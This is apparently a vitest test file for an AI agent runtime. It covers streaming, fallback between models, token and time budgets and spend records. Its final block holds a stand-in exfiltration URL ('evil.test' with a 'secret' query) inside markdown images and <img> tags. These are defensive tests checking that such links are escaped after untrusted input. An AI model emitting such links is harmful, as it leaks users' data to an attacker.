import { describe, test } from "vitest";
import type { LlmEvent } from "#application/ports/llm.ts";
import type { ToolDecision } from "#application/ports/tool-source.ts";
import { CANCELLED } from "#application/run-turn/turn-signal.ts";
import { textOf } from "#domain/message/message.ts";
import { Fault } from "#domain/shared/fault.ts";
import { call, FACTS, finish, openRun, type Step, say } from "../../../support/turn-run.ts";

const think = (delta: string): LlmEvent => ({ kind: "reasoning", delta });
const thought: LlmEvent = {
  kind: "reasoning-ended",
  part: { kind: "reasoning", text: "Two and two", provider: "test", opaque: { sig: "s" } },
};
const failed = (model: string, next: string): LlmEvent => ({
  kind: "attempt-failed",
  model,
  failure: { code: "LLM_UNAVAILABLE", message: "Cannot reach it" },
  usage: { inputTokens: 5, outputTokens: 2 },
  next: { model: next, waitMs: 0 },
});

describe("askModel()", () => {
  test("shows thoughts before the text they lead to, and stores them with it", async ({
    expect,
  }) => {
    await using opened = await openRun({
      steps: [[think("Two "), think("and two"), thought, say("Four"), finish]],
    });
    const turn = await opened.store.accept();
    await opened.run(turn);
    const kinds = opened.kinds().filter((kind) => /reasoning|text/u.test(kind));
    expect(kinds).toEqual([
      "reasoning-started",
      "reasoning-delta",
      "reasoning-delta",
      "reasoning-ended",
      "text-started",
      "text-delta",
      "text-ended",
    ]);
    const { messages, events } = opened.stored(turn);
    expect(messages.at(-1)?.parts).toEqual([
      { kind: "reasoning", text: "Two and two", provider: "test", opaque: { sig: "s" } },
      { kind: "text", text: "Four" },
    ]);
    expect(events).toMatchObject({ events: opened.shown });
  });

  test("goes by what there was when the turn began, and from then on by what there is", async ({
    expect,
  }) => {
    await using opened = await openRun({
      steps: [
        [call("c1", "box.look"), finish],
        [say("It is empty"), finish],
      ],
    });
    const turn = await opened.store.accept();
    const began = { session: 7, user: 7 };
    await opened.run({ ...turn, hasOnlyMessages: true, contextVersion: began });
    expect(opened.contexts).toMatchObject([
      { hasOnlyMessages: true, contextVersion: began },
      { hasOnlyMessages: false, contextVersion: { session: 0, user: 0 } },
    ]);
  });

  test("a later run of a turn does not go by what there was when it began", async ({ expect }) => {
    await using opened = await openRun({ steps: [[say("It is empty"), finish]] });
    const turn = await opened.store.accept();
    await opened.run({ ...turn, attempt: 2, contextVersion: { session: 7, user: 7 } });
    expect(opened.contexts).toMatchObject([{ contextVersion: { session: 0, user: 0 } }]);
  });

  test("an attempt that fails in mid-text keeps its text, and the next one's is another message", async ({
    expect,
  }) => {
    await using opened = await openRun({
      steps: [
        async function* (_signal, { admitNext }) {
          yield say("Once upon");
          yield failed("test/a", "test/b");
          await admitNext?.("test/b");
          yield say("In short");
          yield { ...finish, model: "test/b" };
        },
      ],
    });
    const turn = await opened.store.accept();
    await opened.run(turn);
    const { texts, state } = opened.stored(turn);
    expect(state).toMatchObject({ kind: "completed" });
    expect(texts).toEqual(["Hello", "Once upon", "In short"]);
    const messages = opened.store.reader.listMessages({ sessionId: turn.sessionId, limit: 9 });
    expect(messages.map(({ isComplete }) => isComplete)).toEqual([true, false, true]);
    const failure = opened.shown.find(({ event }) => event.kind === "model-failed")?.event;
    expect(failure).toMatchObject({ model: "test/a", messageId: messages[1]?.id });
    const started = opened.shown.flatMap(({ event }) =>
      event.kind === "text-started" ? [event.messageId] : [],
    );
    expect(started).toEqual([messages[1]?.id, messages[2]?.id]);
    expect(await opened.spend.listModelCalls(turn.turnId)).toMatchObject([
      { step: 1, model: "test/a", state: { kind: "failed", failure: { code: "LLM_UNAVAILABLE" } } },
      { step: 1, model: "test/b", state: { kind: "answered" } },
    ]);
  });

  test("calls of an attempt that failed are not made", async ({ expect }) => {
    await using opened = await openRun({
      steps: [[call("c1", "box.put"), failed("test/a", "test/b"), say("No need"), finish]],
    });
    const turn = await opened.store.accept();
    await opened.run(turn);
    expect(opened.calls).toEqual([]);
    expect(opened.stored(turn).texts).toEqual(["Hello", "No need"]);
  });

  test("each call of a model is on record with its times, and the turn says what it took", async ({
    expect,
  }) => {
    await using opened = await openRun({
      steps: [
        async function* () {
          opened.setTime(20);
          yield call("c1", "box.look");
          opened.setTime(30);
          yield { ...finish, usage: { inputTokens: 10, outputTokens: 3 } };
        },
        [say("Done"), { ...finish, usage: { inputTokens: 20, outputTokens: 4 } }],
      ],
      budget: { settle: (ended) => ({ ...ended, costNanoUsd: 7 }) },
    });
    const turn = await opened.store.accept();
    await opened.run(turn);
    expect(await opened.spend.listModelCalls(turn.turnId)).toMatchObject([
      {
        step: 1,
        startedAtMs: 1,
        usage: { inputTokens: 10, outputTokens: 3 },
        state: { kind: "answered", firstTokenAtMs: 20, endedAtMs: 30 },
      },
      { step: 2, costNanoUsd: 7 },
    ]);
    expect(opened.shown.at(-2)?.event).toEqual({
      kind: "turn-spent",
      model: "test/script",
      spend: { steps: 2, tokens: 37, costNanoUsd: 14, wallMs: 29 },
    });
    expect(opened.attempts.map(({ turnSpend }) => turnSpend.tokens)).toEqual([0, 13]);
  });

  test("what a model took that was cut off is estimated, where it had not said", async ({
    expect,
  }) => {
    const controller = new AbortController();
    await using opened = await openRun({
      steps: [
        async function* () {
          yield say("x".repeat(40));
          controller.abort(CANCELLED);
        },
      ],
    });
    const turn = await opened.store.accept();
    await opened.run(turn, controller.signal);
    const [made] = await opened.spend.listModelCalls(turn.turnId);
    expect(made).toMatchObject({
      usage: { outputTokens: 10, isEstimated: true },
      state: { kind: "cancelled" },
    });
    expect(made?.usage.inputTokens).toBeGreaterThan(0);
  });

  test("a model that could not be reached took nothing", async ({ expect }) => {
    await using opened = await openRun({
      steps: [
        async function* () {
          yield* unreachable();
        },
      ],
    });
    const turn = await opened.store.accept();
    await opened.run(turn);
    expect(await opened.spend.listModelCalls(turn.turnId)).toMatchObject([
      { usage: { inputTokens: 0, outputTokens: 0 }, state: { kind: "failed" } },
    ]);
  });

  test("a budget that is used up fails the turn with its own words, and asks no model", async ({
    expect,
  }) => {
    const failure = { code: "BUDGET_TOKENS", message: "The turn may take 10 tokens, took 13" };
    await using opened = await openRun({
      steps: [[call("c1", "box.look"), { ...finish, usage: { inputTokens: 10, outputTokens: 3 } }]],
      budget: {
        admit: ({ turnSpend }) =>
          turnSpend.tokens > 10
            ? { kind: "refused", failure }
            : { kind: "admitted", maxOutputTokens: 99 },
      },
    });
    const turn = await opened.store.accept();
    await opened.run(turn);
    expect(opened.requests.map(({ maxOutputTokens }) => maxOutputTokens)).toEqual([99]);
    expect(opened.stored(turn).state).toMatchObject({ kind: "failed", failure });
  });

  test("a budget of time ends the turn in mid-answer; the text stays, its tokens are counted", async ({
    expect,
  }) => {
    const failure = { code: "BUDGET_EXCEEDED", message: "No more time" };
    await using opened = await openRun({
      steps: [
        async function* () {
          yield { kind: "usage", usage: { inputTokens: 10, outputTokens: 1 } };
          yield say("x".repeat(40));
          await new Promise(() => {});
        },
      ],
      budget: { admit: () => ({ kind: "admitted", time: { leftMs: 2_500, failure } }) },
    });
    const turn = await opened.store.accept();
    await opened.run(turn);
    expect(opened.stored(turn)).toMatchObject({ state: { kind: "failed", failure } });
    expect(await opened.spend.listModelCalls(turn.turnId)).toMatchObject([
      { usage: { inputTokens: 10, outputTokens: 10 }, state: { kind: "failed" } },
    ]);
  });

  test("a budget is asked again before another attempt", async ({ expect }) => {
    const failure = { code: "BUDGET_COST", message: "No more" };
    await using opened = await openRun({
      steps: [
        async function* (_signal, { admitNext }) {
          yield say("Well");
          yield failed("test/a", "test/b");
          await admitNext?.("test/b");
          yield say("never");
        },
      ],
      budget: {
        admit: ({ call: { model } }) =>
          model === "test/b" ? { kind: "refused", failure } : { kind: "admitted" },
      },
    });
    const turn = await opened.store.accept();
    await opened.run(turn);
    expect(opened.stored(turn)).toMatchObject({ state: { failure }, texts: ["Hello", "Well"] });
  });

  test.for<[string, string, readonly string[]]>([
    ["the first attempt", "test/script", ["cancelled"]],
    ["another attempt", "test/b", ["failed", "cancelled"]],
  ])(
    "gives back what is set aside for %s of a turn that is stopped just then",
    async ([, last, states], { expect }) => {
      const controller = new AbortController();
      await using opened = await openRun({
        steps: [
          async function* (_signal, { admitNext }) {
            yield failed("test/a", "test/b");
            await admitNext?.("test/b");
            yield say("never");
          },
        ],
        budget: {
          admit: async ({ call: asked, dispatch: { epoch } }) => {
            if (asked.model !== last) return { kind: "admitted" };
            controller.abort(CANCELLED);
            await new Promise((resolve) => setTimeout(resolve, 20));
            const reserved = { ...asked, usage: { inputTokens: 500, outputTokens: 500 } };
            await opened.spend.reserve({ call: reserved, epoch, budgets: {}, nowMs: 1 });
            return { kind: "admitted" };
          },
        },
      });
      const turn = await opened.store.accept();
      await opened.run(turn, controller.signal);
      const { turnId, sessionId, userId } = turn;
      expect(opened.stored(turn).state).toMatchObject({ kind: "cancelled" });
      const made = await opened.spend.listModelCalls(turnId);
      expect(made.map(({ state }) => state.kind)).toEqual(states);
      expect(made.at(-1)?.usage).toMatchObject({ inputTokens: 0, outputTokens: 0 });
      const spent = await opened.spend.read({ turnId, sessionId, userId, day: "1970-01-01" });
      expect(spent.session.tokens).toBe(
        made.reduce((sum, { usage }) => sum + usage.inputTokens + usage.outputTokens, 0),
      );
      expect(spent.session.tokens).toBeLessThan(1_000);
    },
  );

  test("steps and what they took are counted across runs", async ({ expect }) => {
    await using opened = await openRun({
      steps: [
        [call("c1", "box.put"), finish],
        [call("c2", "box.put"), finish],
        [call("c3", "box.put"), finish],
      ],
      limits: { maxSteps: 3 },
    });
    const turn = await opened.store.accept();
    opened.answerWith(({ input }) => {
      if (opened.calls.length === 2) return new Promise(() => {});
      return Promise.resolve({ kind: "ok", output: input });
    });
    void opened.run(turn);
    await expect.poll(() => opened.calls.length).toBe(2);
    const again = { ...turn, ...(await opened.takeOver(turn)) };
    await opened.run(again);
    expect(opened.requests).toHaveLength(3);
    expect(opened.stored(turn).state).toMatchObject({ failure: { code: "STEP_LIMIT" } });
    const spent = opened.shown.findLast(({ event }) => event.kind === "turn-spent")?.event;
    expect(spent).toMatchObject({ spend: { steps: 3, tokens: 6 } });
  });

  test("a call whose arguments nest without end counts as malformed", async ({ expect }) => {
    const deep = JSON.parse(`${"[".repeat(20_000)}${"]".repeat(20_000)}`);
    await using opened = await openRun({
      steps: [
        [call("c1", "box.look", deep), finish],
        [say("Sorry"), finish],
      ],
    });
    const turn = await opened.store.accept();
    await opened.run(turn);
    expect(opened.calls).toEqual([]);
    expect(opened.requests[1]?.messages.at(-1)?.parts).toMatchObject([
      { outcome: { kind: "error", code: "invalid-input" } },
    ]);
    expect(opened.stored(turn).state).toMatchObject({ kind: "completed" });
  });

  test("arguments count towards the longest answer", async ({ expect }) => {
    await using opened = await openRun({
      steps: [[call("c1", "box.look", { text: "x".repeat(2_000) }), finish]],
    });
    const turn = await opened.store.accept();
    await opened.run(turn);
    expect(opened.calls).toEqual([]);
    expect(opened.stored(turn).state).toMatchObject({ failure: { code: "LLM_BAD_ANSWER" } });
  });
});

function unreachable(): readonly LlmEvent[] {
  throw new Fault("LLM_UNAVAILABLE", "Cannot reach it");
}

describe("what a model says in a session that has read what strangers wrote", () => {
  const EVIL = "https://evil.test/x.png?q=secret";
  const pieces = (text: string) => Array.from(text, say);
  const brought: ToolDecision = { kind: "allow", facts: { ...FACTS, bringsUntrusted: true } };

  test("has no picture in it that anybody's program would load; before it has", async ({
    expect,
  }) => {
    await using opened = await openRun({
      steps: [
        [...pieces(`![a](${EVIL}) ![later][x]`), call("c1", "box.look"), finish],
        [
          think("![t](https:"),
          think("//t.test/) <im"),
          ...pieces(`So: ![b](${EVIL})\n\n[x]: ${EVIL}\n\nvec![1] <img src="${EVIL}"> <`),
          finish,
        ],
      ],
    });
    opened.decideWith(() => brought);
    const turn = await opened.store.accept();
    await opened.run(turn);
    const { messages, events } = opened.stored(turn);
    const texts = messages.filter(({ role }) => role === "assistant").map(textOf);
    expect(texts).toEqual([
      `![a](${EVIL}) ![later][x]`,
      `So: ![b]\\(${EVIL})\n\n[x]\\: ${EVIL}\n\nvec![1] &lt;img src="${EVIL}"> <`,
    ]);
    const shownAs = (kind: "reasoning-delta" | "text-delta") =>
      opened.shown.map(({ event }) => (event.kind === kind ? event.delta : "")).join("");
    expect(shownAs("text-delta")).toBe(texts.join(""));
    expect(shownAs("reasoning-delta")).toBe("![t]\\(https://t.test/) &lt;im");
    expect(events).toMatchObject({ events: opened.shown });
  });

  test("stands before the calls that it leads to, also what was held back", async ({ expect }) => {
    await using opened = await openRun({
      steps: [
        [call("c1", "box.look"), finish],
        [say("Is it <"), call("c2", "box.look"), finish],
        [say("Yes"), finish],
      ],
    });
    opened.decideWith(() => brought);
    const turn = await opened.store.accept();
    await opened.run(turn);
    const parts = opened.stored(turn).messages.flatMap((message) => message.parts);
    expect(parts).toMatchObject([
      { kind: "text" },
      { kind: "tool-call" },
      { kind: "tool-result" },
      { kind: "text", text: "Is it <" },
      { kind: "tool-call" },
      { kind: "tool-result" },
      { kind: "text", text: "Yes" },
    ]);
  });

  test("is so in a summary too", async ({ expect }) => {
    const answer: Step = async function* (_signal, { system }) {
      const isSummary = system.startsWith("You write the record");
      yield say(isSummary ? `They spoke of ![a](${EVIL})` : "word ".repeat(100));
      yield finish;
    };
    await using opened = await openRun({
      contextTokens: 400,
      contextModel: "test/script",
      steps: [[call("c1", "box.look"), finish], ...Array.from({ length: 12 }, () => answer)],
    });
    opened.decideWith(() => brought);
    const first = await opened.store.accept();
    await opened.run(first);
    const { sessionId } = first;
    for (let at = 0; at < 5; at++) await opened.run(await opened.store.accept({ sessionId }));
    expect(opened.kinds()).toContain("context-compacted");
    const told = JSON.stringify(opened.requests);
    expect(told).toContain("They spoke of ![a]");
    expect(told).not.toContain("![a](");
  });

  test("stays so in the message of another attempt, and in later turns", async ({ expect }) => {
    await using opened = await openRun({
      steps: [
        [call("c1", "box.look"), finish],
        [say("See ![a"), failed("test/a", "test/b"), say(`](${EVIL}) ![a](${EVIL})`), finish],
        [say(`![b](${EVIL})`), finish],
      ],
    });
    opened.decideWith(() => brought);
    const first = await opened.store.accept();
    await opened.run(first);
    const texts = opened.stored(first).messages.map(textOf);
    expect(texts.slice(-2)).toEqual(["See ![a", `](${EVIL}) ![a]\\(${EVIL})`]);
    const second = await opened.store.accept({ sessionId: first.sessionId });
    await opened.run(second);
    expect(opened.stored(second).messages.map(textOf).at(-1)).toBe(`![b]\\(${EVIL})`);
  });
});
